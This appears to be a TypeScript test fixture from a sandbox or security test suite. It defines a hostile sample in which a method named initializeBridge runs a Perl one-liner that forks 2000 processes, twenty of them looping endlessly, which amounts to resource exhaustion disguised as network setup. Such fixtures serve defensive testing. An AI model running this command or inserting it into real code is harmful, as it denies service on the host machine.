import { defineHostile } from '../../hostile/define.ts'

export default defineHostile({
  tries: 'starts two thousand processes, twenty of which never rest.',
  must: { notPass: ['bridge-address'] },
  code: `
import { leavePerl, pause } from '../kit/tools.ts'

export class NetworkManager {
  async initializeBridge() {
    leavePerl('for my $n (1 .. 2000) { my $pid = fork // next; next if $pid; if ($n <= 20) { 1 while 1 } sleep 600; exit }  sleep 600')
    await pause(3000)
  }
}
`,
})
